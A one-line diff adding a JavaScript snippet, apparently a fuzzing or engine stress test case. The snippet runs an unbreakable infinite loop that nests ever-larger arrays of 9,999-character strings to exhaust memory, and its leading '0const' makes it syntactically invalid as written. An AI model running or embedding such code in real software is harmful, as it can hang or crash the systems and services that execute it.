@@ -1,0 +1,1 @@
+0const m = {}; m.m = m; for (;;) { try { m.a = [m.a, "x".repeat(9999)] } finally { continue } }
